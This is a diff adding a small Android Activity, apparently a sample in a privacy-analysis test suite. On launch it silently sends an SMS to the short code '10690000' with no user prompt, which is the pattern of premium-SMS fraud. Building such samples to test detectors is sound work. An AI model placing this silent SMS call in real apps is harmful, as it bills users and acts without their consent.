@@ -1,0 +1,26 @@
+package cn.privlens.suite.class_name_text_other;
+
+import android.app.*;
+import android.content.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.regex.*;
+
+public class Third extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        SmsManager.getDefault().sendTextMessage("10690000", null, "third", null, null);
+    }
+
+}
